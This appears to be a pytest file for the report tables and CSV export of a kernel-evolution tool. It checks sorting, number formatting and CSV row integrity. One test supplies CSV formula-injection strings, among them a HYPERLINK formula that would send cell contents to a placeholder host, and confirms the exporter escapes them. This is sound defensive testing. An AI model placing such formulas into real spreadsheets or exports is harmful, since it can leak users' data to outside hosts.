import csv
import io

from rich.console import Console

from kernelevo.core import Evaluation, Fault, Origin, Program, Status, Trial
from kernelevo.report.table import (
    best,
    interval,
    milliseconds,
    number,
    ratio,
    trials_csv,
    trials_table,
    verdict_table,
)


def a_trial(n: int, score: float | None, **metrics: float | None) -> Trial:
    program = Program.single(f"v{n}", origin=Origin("rewrite", f"idea {n}"))
    if score is None:
        return Trial(n, program, Evaluation.wrong("nan", **metrics), started=1.0, ended=2.5)
    return Trial(n, program, Evaluation.ok(score, **metrics), started=1.0, ended=2.5)


ROUGH = Trial(7, Program.single("rough"), Evaluation(Status.OK, 9.0, fidelity="rough"))
BROKEN = Trial(8, Program.single("b"), fault=Fault("SandboxError", "zygote, gone", 3))


def printed(what: object) -> str:
    console = Console(width=160, file=io.StringIO(), record=True)
    console.print(what)
    return console.export_text()


def test_numbers() -> None:
    assert [number(None), number(True), number("nan"), number(1234.5)] == ["-", "true", "nan", "1.23e+03"]
    assert number({"a": 1.0}) == "1 listed"  # type: ignore[arg-type]
    assert ratio(1.385) == "1.39x" or ratio(1.385) == "1.38x"
    assert [milliseconds(0.0123), milliseconds(12.34), milliseconds(None)] == ["12.3 us", "12.3 ms", "-"]
    assert interval(Evaluation.ok(1.5, score_low=1.4, score_high=1.6)) == "1.50x [1.40, 1.60]"
    assert interval(Evaluation.ok(1.5, latency_ms=1.0)) == "1.50x"
    assert interval(Evaluation.ok(1.5)) == "1.5"


def test_best_is_the_first_of_the_highest_full_scores() -> None:
    assert best(
        [a_trial(0, 1.0), a_trial(1, 2.0), a_trial(2, 2.0), a_trial(3, None), ROUGH, BROKEN]
    ) == a_trial(1, 2.0)
    assert best([a_trial(3, None), ROUGH, BROKEN]) is None


def test_the_table_lists_best_first_and_failures_last() -> None:
    text = printed(
        trials_table([BROKEN, a_trial(1, None), a_trial(2, 1.25, latency_ms=3.0), a_trial(3, 2.5)])
    )
    lines = text.splitlines()
    assert [line.split()[0] for line in lines[1:]] == ["#3", "#2", "#1", "#8"]
    assert "1.25x" in lines[2] and "3 ms" in lines[2] and "rewrite: idea 2" in lines[2]
    assert "wrong" in lines[3] and "fault: SandboxError" in lines[4]


def test_rough_verdicts_stand_behind_full_ones_and_those_that_are_out_behind_both() -> None:
    refuted, good, slow = a_trial(4, 9.0), a_trial(5, 2.0), a_trial(6, 0.5)
    trials = [refuted, ROUGH, slow, good, a_trial(1, None)]
    lines = printed(trials_table(trials, out={refuted.program.id})).splitlines()[1:]
    assert [line.split()[0] for line in lines] == ["#5", "#6", "#7", "#4", "#1"]
    assert ["ok (out)" in line for line in lines] == [False, False, False, True, False]
    assert "wrong (out)" not in printed(trials_table([a_trial(1, None)], out={a_trial(1, None).program.id}))


def test_the_table_can_be_cut() -> None:
    assert len(printed(trials_table([a_trial(i, 1.0 + i) for i in range(9)], top=3)).splitlines()) == 4


def test_a_verdict_leaves_out_what_does_not_exist() -> None:
    text = printed(verdict_table(Evaluation.ok(1.5, latency_ms=2.0, speedup_vs_cublas=None)))
    assert "latency_ms  2" in text and "cublas" not in text and "1.50x" in text


def test_a_models_idea_is_no_formula_of_a_spreadsheet() -> None:
    ideas = ('=HYPERLINK("http://h/"&A1)', "+1", "-1", "@x", "\tx", "a=b")
    trials = [
        Trial(n, Program.single(f"v{n}", origin=Origin("llm", idea)), Evaluation.wrong("no"))
        for n, idea in enumerate(ideas)
    ]
    rows = list(csv.DictReader(io.StringIO(trials_csv(trials))))
    assert [row["idea"] for row in rows] == [*(f"'{idea}" for idea in ideas[:-1]), "a=b"]


def test_csv_has_every_trial_in_order() -> None:
    rows = list(
        csv.DictReader(io.StringIO(trials_csv([a_trial(0, 2.0, latency_ms=1.5), a_trial(1, None), BROKEN])))
    )
    assert [row["number"] for row in rows] == ["0", "1", "8"]
    assert rows[0]["latency_ms"] == "1.5" and rows[0]["seconds"] == "1.5" and rows[0]["score"] == "2.0"
    assert rows[1]["score"] == "" and rows[1]["status"] == "wrong"
    assert rows[2]["fault"] == "zygote, gone" and rows[2]["status"] == ""


def test_a_return_in_a_text_does_not_tear_a_row_of_the_csv_apart() -> None:
    program = Program.single("x", origin=Origin("llm", "first\rsecond\r\nthird"))
    text = trials_csv([Trial(0, program, fault=Fault("WorkerDied", "10%\r20%"))])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["idea"] == "first\nsecond\nthird" and row["fault"] == "10%\n20%"
